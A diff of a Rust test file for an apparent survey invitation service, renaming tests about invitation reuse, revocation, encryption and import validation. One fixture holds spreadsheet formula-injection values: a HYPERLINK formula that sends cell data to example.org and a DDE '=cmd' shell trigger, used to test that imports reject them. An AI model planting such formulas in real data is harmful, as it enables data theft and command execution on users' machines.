@@ -3,7 +3,7 @@
 use super::*;
 
 #[tokio::test]
-async fn an_invitation_opens_one_response_and_opens_it_again() {
+async fn sign_in_with_same_invitation_resumes_response() {
     let server = TestServer::start().await;
     offer(&server, "closed", &["invitationRequired=true"]).await;
     offer(&server, "other", &["invitationRequired=true"]).await;
@@ -49,7 +49,7 @@ async fn an_invitation_opens_one_response_and_opens_it_again() {
 }
 
 #[tokio::test]
-async fn a_revoked_or_reprinted_invitation_looks_like_an_unknown_one() {
+async fn sign_in_with_revoked_invitation_fails_as_unknown() {
     let server = TestServer::start().await;
     offer(&server, "closed", &["invitationRequired=true"]).await;
     let [ada, bo] = invited(&server, "closed").await;
@@ -92,7 +92,7 @@ async fn a_revoked_or_reprinted_invitation_looks_like_an_unknown_one() {
 }
 
 #[tokio::test]
-async fn invitations_that_are_nobodys_count_for_a_survey_without_that_rule_too() {
+async fn unassigned_invitation_to_open_survey_resumes_response() {
     let server = TestServer::start().await;
     assert_eq!(
         admin(&server, |admin| admin
@@ -118,7 +118,7 @@ async fn invitations_that_are_nobodys_count_for_a_survey_without_that_rule_too()
 }
 
 #[tokio::test]
-async fn who_is_invited_cannot_be_read_in_the_database_nor_how() {
+async fn invitation_personal_data_is_encrypted_in_database() {
     let server = TestServer::start().await;
     offer(&server, "closed", &["invitationRequired=true"]).await;
     let [ada, _] = invited(&server, "closed").await;
@@ -146,7 +146,7 @@ async fn who_is_invited_cannot_be_read_in_the_database_nor_how() {
 }
 
 #[test]
-fn a_table_is_read_whole_or_all_that_is_wrong_is_told() {
+fn invitee_read_invalid_table_reports_all_findings() {
     let read = |table: &str| -> Vec<String> {
         let findings = Invitee::read(table, None).err().unwrap_or_default();
         findings.iter().map(ToString::to_string).collect()
@@ -187,7 +187,7 @@ fn a_table_is_read_whole_or_all_that_is_wrong_is_told() {
 }
 
 #[test]
-fn what_a_spreadsheet_would_take_for_a_formula_comes_into_no_list() {
+fn invitee_read_rejects_spreadsheet_formulas() {
     let table = "reference,firstName,lastName,email\n\
                  a,\"=HYPERLINK(\"\"http://example.org/\"\"&D1)\",+1,=cmd|'/c'!A0@example.org\n\
                  b, @SUM(A1),-,-a@example.org\n\
@@ -218,7 +218,7 @@ fn what_a_spreadsheet_would_take_for_a_formula_comes_into_no_list() {
 }
 
 #[tokio::test]
-async fn an_invitation_is_asked_for_once_and_by_no_word_that_could_be_another() {
+async fn revoke_and_letters_with_ambiguous_reference_fail() {
     let server = TestServer::start().await;
     admin(&server, |admin| {
         let table = "reference\n2\nbo\n";
